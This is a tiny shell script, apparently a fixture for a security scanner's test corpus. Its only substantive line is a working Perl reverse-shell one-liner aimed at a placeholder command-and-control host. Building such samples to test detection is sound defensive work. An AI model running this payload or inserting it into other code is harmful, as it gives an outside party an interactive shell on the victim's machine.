# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
perl -e 'use Socket;$i="c2.example.invalid";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("sh -i");};'
